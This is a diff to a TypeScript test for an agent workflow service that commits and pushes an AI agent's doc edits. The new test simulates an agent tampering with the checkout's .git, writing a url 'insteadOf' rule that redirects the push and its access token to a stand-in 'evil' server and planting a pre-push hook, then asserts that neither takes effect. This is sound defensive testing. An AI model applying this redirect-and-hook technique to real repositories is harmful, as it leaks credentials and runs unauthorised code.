@@ -12,6 +12,7 @@ import { startScriptedModel } from '../../src/model/scripted-model.ts';
 import type { RunView } from '../../src/workflow/workflow-api.ts';
 import { type GitServer, startGitServer } from '../fixtures/git-server.ts';
 import { type Harness, startHarness } from '../fixtures/harness.ts';
+import { startService } from '../scenarios/kit.ts';
 
 const TOKEN = 'ghs_checkoutTestToken_5b1f0c9e2d7a';
 const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
@@ -199,7 +200,7 @@ steps:
     assert.ok(!error.message.includes(Buffer.from('x-access-token:ghs_wrongWrongWrong_0000').toString('base64')));
   });
 
-  test('commit and push: an Edit(docs/**) change lands on a new branch, a change outside docs/ is skipped; a later step shares the checkout', async () => {
+  test('commit and push: an Edit(docs/**) change lands on a new branch, a change outside docs/ is skipped; a later step shares the checkout', async (t) => {
     await register(`
 name: docs
 inputs: {owner: {type: string}, repo: {type: string}, head: {type: string}}
@@ -223,20 +224,36 @@ steps:
     allowed_tools: [Read]
     workspace: {from: edit}
 `);
-    scenarios.set(
-      'edit',
-      steps(
-        read('docs/guide.md'),
-        {
-          tool_use: {
-            name: 'Edit',
-            input: { file_path: 'docs/guide.md', old_string: 'Guide v1', new_string: 'Guide v2' },
-          },
+    const edit = steps(
+      read('docs/guide.md'),
+      {
+        tool_use: {
+          name: 'Edit',
+          input: { file_path: 'docs/guide.md', old_string: 'Guide v1', new_string: 'Guide v2' },
         },
-        bash('touch notes.txt'),
-        { text: 'I updated the guide.' },
-      ),
+      },
+      bash('touch notes.txt'),
+      { text: 'I updated the guide.' },
     );
+    // What an agent running code outside a sandbox could do to the checkout's .git: point the push (and
+    // its token) at another server, and add a hook. The server commits and pushes from its own mirror.
+    const evil = await startService((_req, res) => {
+      res.writeHead(500).end();
+    });
+    const hookRan = path.join(h.dataDir, 'hook-ran');
+    t.after(() => evil.close());
+    scenarios.set('edit', (req) => {
+      if (req.turnIndex === 3) {
+        const root = path.join(h.dataDir, 'checkouts');
+        const runId = fs.readdirSync(root).find((id) => fs.existsSync(path.join(root, id, 'edit', '.git')));
+        const gitDir = path.join(root, runId!, 'edit', '.git');
+        fs.appendFileSync(path.join(gitDir, 'config'), `[url "${evil.url}/"]\n\tinsteadOf = ${git.url}/\n`);
+        fs.writeFileSync(path.join(gitDir, 'hooks', 'pre-push'), `#!/bin/sh\ntouch ${hookRan}\n`, {
+          mode: 0o755,
+        });
+      }
+      return edit(req);
+    });
     scenarios.set('check', steps(read('docs/guide.md')));
     const r = await run('docs', { owner: 'acme', repo: 'widgets', head: 'main' });
     assert.equal(r.status, 'completed', JSON.stringify(r.error ?? r.steps.map((s) => s.error)));
@@ -260,6 +277,8 @@ steps:
     // The second step worked in the same checkout.
     assert.match(seen.get('check')![0]!, /Guide v2/);
     await until(() => !fs.existsSync(runDir(r)), 'the checkout is removed after success');
+    assert.equal(evil.requests.length, 0, "the checkout's .git/config played no part in the push");
+    assert.equal(fs.existsSync(hookRan), false, "the checkout's hooks never run");
   });
 
   test('nothing to commit is said, not an error', async () => {
